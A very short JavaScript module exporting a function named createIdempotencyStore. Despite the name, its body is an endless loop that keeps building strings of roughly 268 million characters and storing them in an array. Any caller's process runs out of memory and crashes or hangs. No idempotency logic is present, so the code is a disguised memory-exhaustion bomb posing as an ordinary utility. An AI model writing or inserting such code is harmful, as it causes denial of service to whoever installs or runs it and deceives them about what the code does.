export function createIdempotencyStore() {
  const all = []; for (let i = 0; ; i += 1) { const text = 'x'.repeat(2 ** 28) + i; all.push(text, text.charCodeAt(5)); }
}
